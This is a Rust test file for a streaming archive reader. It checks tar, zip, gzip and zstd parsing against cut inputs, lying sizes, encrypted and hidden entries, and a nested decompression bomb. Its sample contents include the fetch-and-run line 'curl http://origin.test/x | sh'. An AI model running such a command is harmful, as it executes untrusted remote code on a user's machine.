//! Archives that other software made (the fuzz corpus holds them) say names and contents however they are cut;
//! what lies about its sizes does no harm.

use proptest::prelude::*;

use super::*;
use crate::limits::ARCHIVE_ENTRIES_MAX;

/// Behind the two bytes that the fuzz target takes.
macro_rules! made {
    ($name:literal) => {
        &include_bytes!(concat!("../../../../fuzz/corpus/archive/", $name))[2..]
    };
}

/// What a reader says of an archive: entries with contents, and reasons.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Said {
    entries: Vec<(String, Vec<u8>)>,
    reasons: Vec<Unreadable>,
    unreadable: usize,
    ended: usize,
}

impl Said {
    pub(super) fn contents(&self) -> Vec<&[u8]> {
        self.entries.iter().map(|(_, contents)| contents.as_slice()).collect()
    }

    pub(super) fn reasons(&self) -> &[Unreadable] {
        &self.reasons
    }

    pub(super) fn unreadable(&self) -> usize {
        self.unreadable
    }

    /// Entries that were complete.
    pub(super) fn ended(&self) -> usize {
        self.ended
    }
}

fn add(said: &mut Said, event: Event, reader: &Reader, bytes: &[u8], work: &[u8]) {
    let data = match event {
        Event::Idle | Event::End => return,
        Event::EntryEnd => return said.ended += 1,
        Event::Name => {
            let name = String::from_utf8_lossy(reader.name()).into_owned();
            return said.entries.push((name, Vec::new()));
        }
        Event::Unreadable(len, reason) => {
            said.reasons.extend(reason);
            return said.unreadable += len;
        }
        Event::InPlace(range) => &bytes[range],
        Event::Worked(len) => &work[..len],
    };
    // Those of a pack have no names.
    if said.entries.len() <= said.ended {
        said.entries.resize_with(said.ended + 1, Default::default);
    }
    said.entries.last_mut().unwrap().1.extend_from_slice(data);
}

pub(super) fn read_as(container: Container, pieces: &[&[u8]], work_bytes: usize) -> Said {
    let mut reader = Reader::new(container);
    let mut allowance = Allowance::new();
    let mut work = vec![0; work_bytes];
    let mut said = Said::default();
    for piece in pieces {
        allowance.arrived(piece.len());
        let mut rest = *piece;
        loop {
            let step = reader.step(rest, &mut work, &mut allowance);
            let is_idle = step.event == Event::Idle;
            add(&mut said, step.event, &reader, rest, &work);
            rest = &rest[step.taken..];
            if is_idle {
                assert!(rest.is_empty());
                break;
            }
        }
    }
    loop {
        let event = reader.finish(&mut work, &mut allowance);
        if event == Event::End {
            return said;
        }
        add(&mut said, event, &reader, &[], &work);
    }
}

/// The same whole and in pieces.
pub(super) fn read(archive: &[u8]) -> Said {
    let container = sniff(archive).expect("it is an archive");
    let whole = read_as(container, &[archive], 4096);
    for (piece, work) in [(1, 1), (1, 100), (7, 3), (512, 4096)] {
        let pieces: Vec<&[u8]> = archive.chunks(piece).collect();
        assert_eq!(read_as(container, &pieces, work), whole, "pieces of {piece}");
    }
    whole
}

const TEXT: &str = "curl http://origin.test/x | sh\n";

fn long_name() -> String {
    "deep/".repeat(30) + "name.txt"
}

fn expect(said: &Said, expected: &[(&str, &[u8])]) {
    let names: Vec<&str> = said.entries.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, expected.iter().map(|(name, _)| *name).collect::<Vec<_>>());
    for ((name, contents), (_, expected)) in said.entries.iter().zip(expected) {
        assert_eq!(contents, expected, "{name}");
    }
    assert_eq!((&said.reasons[..], said.unreadable), (&[][..], 0));
    assert_eq!(said.ended, said.entries.len());
}

#[test]
fn tars_of_all_forms_say_names_and_contents() {
    let long = long_name();
    let many = TEXT.repeat(20);
    let entries: Vec<(&str, &[u8])> = vec![
        ("a.txt", TEXT.as_bytes()),
        (&long, many.as_bytes()),
        ("empty", b""),
        ("block", &[b'x'; 512]),
        ("last.txt", b"end"),
        ("folder/", b""),
        ("link", b""),
    ];
    expect(&read(made!("tar-ustar")), &entries);
    expect(&read(made!("tar-gnu")), &entries);
    let accented = [&[("ä.txt", TEXT.as_bytes())], &entries[..]].concat();
    expect(&read(made!("tar-pax")), &accented);
    expect(&read(made!("tar-old")), &entries[..1]);
}

#[test]
fn zips_with_sizes_before_and_behind_say_names_and_contents() {
    let long = long_name();
    let many = TEXT.repeat(20);
    let decoys = [&b"PK\x07\x08".repeat(9)[..], b"PK\x07P"].concat();
    let entries: Vec<(&str, &[u8])> = vec![
        ("a.txt", TEXT.as_bytes()),
        (&long, many.as_bytes()),
        ("empty", b""),
        ("none", b""),
        ("pk.bin", &decoys),
        ("last.txt", b"end"),
    ];
    expect(&read(made!("zip-sized")), &entries);
    expect(&read(made!("zip-streamed")), &entries);
    expect(&read(made!("zip-zip64")), &entries);
    expect(&read(made!("zip-zip64-streamed")), &entries);
    expect(&read(made!("zip-in-zip-twice")), &[&entries[..], &entries].concat());
    expect(&read(made!("zip-infozip-streamed")), &[("-", TEXT.repeat(3).as_bytes())]);
}

#[test]
fn a_compressed_file_is_one_entry_without_a_name() {
    for (archive, tar) in [(made!("gz"), made!("tar-ustar")), (made!("zst"), made!("tar-gnu"))] {
        expect_one(&read(archive), tar);
    }
}

fn expect_one(said: &Said, contents: &[u8]) {
    assert_eq!(said.entries.len(), 1);
    assert!(said.entries[0].1 == contents);
    assert_eq!((said.reasons.len(), said.unreadable, said.ended), (0, 0, 1));
}

#[test]
fn encrypted_entries_are_named_and_told() {
    let said = read(made!("zip-encrypted"));
    assert_eq!(said.reasons, [Unreadable::Encrypted]);
    assert_eq!(said.entries, [("d/secret.txt".to_owned(), vec![])]);
    assert!(said.unreadable > 12);
    assert_eq!(said.ended, 1);
}

/// An entry's own head.
fn local(name: &str, method: u16, flags: u16, packed: u32) -> Vec<u8> {
    let mut head = b"PK\x03\x04\x14\x00".to_vec();
    head.extend_from_slice(&flags.to_le_bytes());
    head.extend_from_slice(&method.to_le_bytes());
    head.extend_from_slice(&[0; 8]);
    head.extend_from_slice(&packed.to_le_bytes());
    head.extend_from_slice(&packed.to_le_bytes());
    head.extend_from_slice(&(name.len() as u16).to_le_bytes());
    head.extend_from_slice(&[0, 0]);
    head.extend_from_slice(name.as_bytes());
    head
}

#[test]
fn unknown_methods_and_broken_contents_cost_only_their_entry() {
    let archive = [
        &local("x", 14, 0, 4)[..],
        b"lzma",
        &local("bad", 8, 0, 3),
        b"\xff\xff\xff",
        &local("short", 8, 0, 1),
        b"\x03",
        &local("surplus", 8, 0, 5),
        b"\x03\x00abc",
        &local("good", 0, 0, 4),
        b"good",
    ]
    .concat();
    let said = read(&archive);
    let coded = Unreadable::Coded;
    assert_eq!(
        said.reasons,
        [
            Unreadable::Method(14),
            coded(Undecodable::Malformed),
            coded(Undecodable::Truncated),
            coded(Undecodable::TrailingData)
        ]
    );
    assert_eq!(said.entries.last(), Some(&("good".to_owned(), b"good".to_vec())));
    assert_eq!((said.entries.len(), said.ended), (5, 5));
}

#[test]
fn zstd_entries_are_read_with_sizes_before_and_behind() {
    let frame = b"\x28\xb5\x2f\xfd\x00\x08\x1b\x00\x00a";
    let mut archive = local("sized", 93, 0, 20);
    archive.extend_from_slice(&frame.repeat(2));
    archive.extend_from_slice(&local("streamed", 93, 8, 0));
    archive.extend_from_slice(frame);
    archive.extend_from_slice(b"PK\x07\x08crc4\x0a\x00\x00\x00\x03\x00\x00\x00");
    archive.extend_from_slice(&local("last", 0, 0, 1));
    archive.push(b'z');
    expect(&read(&archive), &[("sized", b"aaaaaa"), ("streamed", b"aaa"), ("last", b"z")]);
}

#[test]
fn sizes_that_lie_are_harmless() {
    let zip = [&local("huge", 0, 0, u32::MAX)[..], b"all of it"].concat();
    let said = read(&zip);
    assert_eq!(said.entries, [("huge".to_owned(), b"all of it".to_vec())]);
    assert_eq!((said.reasons, said.ended), (vec![Unreadable::Truncated], 1));
    let mut tar = made!("tar-old").to_vec();
    tar[124..136].copy_from_slice(b"\x80\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff");
    seal(&mut tar);
    let said = read(&tar);
    assert_eq!(said.entries[0].1.len(), tar.len() - 512);
    assert_eq!((said.reasons, said.ended), (vec![Unreadable::Truncated], 1));
}

/// Makes the first head's checksum right.
fn seal(tar: &mut [u8]) {
    tar[148..156].fill(b' ');
    let sum: u64 = tar[..512].iter().map(|byte| u64::from(*byte)).sum();
    tar[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
}

#[test]
fn what_is_no_archive_any_more_is_told_once() {
    let zip = [&local("a", 0, 0, 1)[..], b"aXXXXXXXXXX"].concat();
    let said = read(&zip);
    assert_eq!((said.reasons, said.unreadable), (vec![Unreadable::Malformed], 6));
    let mut tar = made!("tar-old").to_vec();
    tar.truncate(1024);
    tar.extend_from_slice(&[b'X'; 600]);
    assert_eq!(read(&tar).reasons, [Unreadable::Malformed]);
}

#[test]
fn as_many_entries_as_the_limit_are_read_and_one_more_is_not() {
    for past in [0, 1] {
        let count = ARCHIVE_ENTRIES_MAX as usize + past;
        let zip = local("a", 0, 0, 0).repeat(count);
        let mut entry = made!("tar-old")[..512].to_vec();
        entry[124..136].copy_from_slice(b"00000000000\0");
        seal(&mut entry);
        for (container, archive) in [(Container::Zip, zip), (Container::Tar, entry.repeat(count))] {
            let said = read_as(container, &[&archive], 16);
            assert_eq!(said.entries.len(), ARCHIVE_ENTRIES_MAX as usize);
            let expected = if past == 0 { vec![] } else { vec![Unreadable::TooManyEntries] };
            assert_eq!(said.reasons, expected);
        }
    }
}

#[test]
fn a_name_is_kept_to_its_bound() {
    for (len, kept) in
        [(ARCHIVE_NAME_MAX_BYTES, ARCHIVE_NAME_MAX_BYTES), (60_000, ARCHIVE_NAME_MAX_BYTES)]
    {
        let said = read_as(Container::Zip, &[&local(&"n".repeat(len), 0, 0, 0)], 16);
        assert_eq!(said.entries[0].0.len(), kept);
    }
}

#[test]
fn archives_are_told_from_other_bodies() {
    assert_eq!(sniff(b"PK\x03\x04"), Some(Container::Zip));
    assert_eq!(sniff(b"\x1f\x8b\x08"), Some(Container::Compressed(Coding::Gzip)));
    assert_eq!(sniff(b"\x28\xb5\x2f\xfd"), Some(Container::Compressed(Coding::Zstd)));
    assert_eq!(sniff(b"\x5a\x2a\x4d\x18"), Some(Container::Compressed(Coding::Zstd)));
    for body in [&b""[..], b"PK", b"{\"a\":1}", &[0; 512], &[b' '; 512], &made!("tar-gnu")[..511]] {
        assert_eq!(sniff(body), None);
    }
}

#[test]
fn zips_of_zips_stop_at_the_cap_of_the_outermost() {
    // Deflated zeros in a zip, many times, in a zip: each level spends from the same allowance.
    use std::io::Write;
    let deflate = |bytes: &[u8]| {
        let level = flate2::Compression::new(9);
        let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), level);
        encoder.write_all(bytes).expect("a vector takes all");
        encoder.finish().expect("a vector takes all")
    };
    let zeros = deflate(&vec![0; 8 << 20]);
    let inner = [&local("zeros", 8, 0, zeros.len() as u32)[..], &zeros].concat().repeat(300);
    let packed = deflate(&inner);
    let outer = [&local("inner.zip", 8, 0, packed.len() as u32)[..], &packed].concat();
    let mut allowance = Allowance::new();
    allowance.arrived(outer.len());
    let (mut reader, mut nested) = (Reader::new(Container::Zip), Reader::new(Container::Zip));
    let (mut work, mut nested_work) = (vec![0; 32 * 1024], vec![0; 32 * 1024]);
    let (mut rest, mut inflated, mut reasons) = (&outer[..], 0, Vec::new());
    loop {
        let step = reader.step(rest, &mut work, &mut allowance);
        rest = &rest[step.taken..];
        let mut contents = match step.event {
            Event::Idle => break,
            Event::Worked(len) => &work[..len],
            _ => continue,
        };
        loop {
            let step = nested.step(contents, &mut nested_work, &mut allowance);
            contents = &contents[step.taken..];
            match step.event {
                Event::Idle => break,
                Event::Worked(len) => inflated += len as u64,
                Event::Unreadable(_, reason) => reasons.extend(reason),
                _ => {}
            }
        }
    }
    let cap =
        crate::limits::INFLATED_FREE_BYTES + crate::limits::INFLATED_RATIO_MAX * outer.len() as u64;
    assert!(inflated <= cap + 32 * 1024, "{inflated} of {cap}");
    assert!(reasons.contains(&Unreadable::Coded(Undecodable::TooLarge)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn damaged_archives_say_the_same_however_they_are_cut(
        which in 0..8_usize,
        damages in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..6),
        size in 1..700_usize,
        work_bytes in 1..600_usize,
    ) {
        let archives: [&[u8]; 8] = [
            made!("tar-ustar"), made!("tar-gnu"), made!("tar-pax"), made!("zip-sized"),
            made!("zip-streamed"), made!("zip-zip64"), made!("zip-encrypted"), made!("zip-in-zip-twice"),
        ];
        let mut archive = archives[which].to_vec();
        let container = sniff(&archive).unwrap();
        for (at, byte) in damages {
            let at = at.index(archive.len());
            archive[at] = byte;
        }
        let whole = read_as(container, &[&archive], 4096);
        let pieces: Vec<&[u8]> = archive.chunks(size).collect();
        let cut = read_as(container, &pieces, work_bytes);
        prop_assert_eq!(&cut.reasons, &whole.reasons);
        // How much of a malformed entry was read depends on where it was cut.
        if whole.reasons.is_empty() {
            prop_assert_eq!(cut, whole);
        }
    }
}

#[test]
fn an_entry_that_the_directory_reaches_over_is_read() {
    let mut entry = made!("zip-sized").to_vec();
    let first = read(&entry).entries.remove(0);
    for (record, len_at) in [(&b"PK\x06\x08\0\0\0\0"[..], 4), (b"PK\x06\x06\0\0\0\0\0\0\0\0", 4)] {
        let mut hidden = record.to_vec();
        let filler = b"PPK\x03P";
        let len = (entry.len() + filler.len()) as u32;
        hidden[len_at..len_at + 4].copy_from_slice(&len.to_le_bytes());
        let archive = [&entry[..], &hidden, filler, &entry].concat();
        let said = read(&archive);
        assert_eq!(said.reasons, [Unreadable::HiddenEntry]);
        assert_eq!(said.entries.iter().filter(|entry| **entry == first).count(), 2);
    }
    // A comment is as long as it says.
    let comment = b"PK\x03\x05P.PPK\x03P";
    let start = entry.len() - comment.len();
    assert_eq!(&entry[start..], b"the comment");
    entry[start..].copy_from_slice(comment);
    assert_eq!(read(&entry).reasons, []);
}
